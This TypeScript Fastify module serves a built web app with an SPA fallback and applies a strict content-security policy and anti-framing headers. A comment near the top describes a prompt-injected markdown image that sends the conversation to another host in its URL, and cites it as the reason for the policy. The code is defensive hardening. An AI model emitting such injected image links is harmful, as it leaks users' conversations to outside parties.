import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { FastifyInstance } from 'fastify';
import fastifyStatic from '@fastify/static';
import { notFoundHandler } from './errors.js';

/** Where `web/build-if-stale.mjs` puts the built app (gitignored). */
export const WEB_APP_DIR = fileURLToPath(new URL('../../web/dist/', import.meta.url));

/**
 * The app's pages may load and reach only the server itself: model, webhook and memory
 * text is rendered in them, and a prompt-injected `![](https://elsewhere/?d=…)` would
 * otherwise send the conversation to another origin as the thread is viewed. Nor may
 * another site frame the app (approve and delete are a click away).
 */
const APP_HEADERS: Readonly<Record<string, string>> = {
  'content-security-policy':
    "default-src 'self'; img-src 'self' data: blob:; connect-src 'self'; style-src 'self' 'unsafe-inline'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'",
  'referrer-policy': 'no-referrer',
  'x-frame-options': 'DENY',
};

/** The web app's files are public (all data is behind /api, which keeps its auth); everything else is not. */
export function isWebAppPath(path: string): boolean {
  return path !== '/api' && !path.startsWith('/api/');
}

/**
 * Serve the built web app at / with an SPA fallback: a GET for a page path answers
 * index.html, while /api and anything that asks for JSON keep the JSON 404. Without a
 * build (vite not installed) the server runs as an API only. Returns whether it serves.
 */
export async function registerWebApp(app: FastifyInstance, root = WEB_APP_DIR): Promise<boolean> {
  if (!existsSync(join(root, 'index.html'))) return false;
  // The app's own files carry no data: their routes are public (a person signs in against
  // /api like any client). Only the routes the static plugin adds are marked, while it is
  // registered, so that no other route (/metrics, /docs, a protocol route) is public by its path.
  let marking = true;
  app.addHook('onRoute', (route) => {
    if (marking) route.config = { ...route.config, public: true };
  });
  try {
    await app.register(fastifyStatic, {
      root,
      prefix: '/',
      wildcard: false,
      index: ['index.html'],
      cacheControl: true,
      maxAge: 0,
      setHeaders: (reply) => {
        reply.headers(APP_HEADERS);
      },
    });
  } finally {
    marking = false;
  }
  app.setNotFoundHandler((request, reply) => {
    const path = request.url.split('?')[0] ?? '';
    const wantsPage = request.method === 'GET' && isWebAppPath(path) && !/\.[a-z0-9]+$/i.test(path) && (request.headers.accept ?? '').includes('text/html');
    if (wantsPage) return reply.type('text/html').sendFile('index.html', root);
    return notFoundHandler(request, reply);
  });
  return true;
}
